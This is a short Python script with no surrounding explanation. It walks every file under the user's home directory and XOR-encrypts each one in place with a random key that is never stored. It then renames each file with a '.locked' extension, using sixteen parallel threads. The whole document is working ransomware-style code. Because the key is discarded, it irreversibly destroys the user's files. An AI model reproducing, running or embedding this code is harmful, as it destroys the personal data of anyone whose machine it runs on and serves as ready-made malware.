import os
import secrets
from concurrent.futures import ThreadPoolExecutor

key = secrets.token_bytes(32)


def scramble(path):
    with open(path, "r+b") as file:
        data = bytes(b ^ key[i % 32] for i, b in enumerate(file.read()))
        file.seek(0)
        file.write(data)
    os.rename(path, path + ".locked")


with ThreadPoolExecutor(16) as pool:
    for folder, _, names in os.walk(os.path.expanduser("~")):
        for name in names:
            pool.submit(scramble, os.path.join(folder, name))
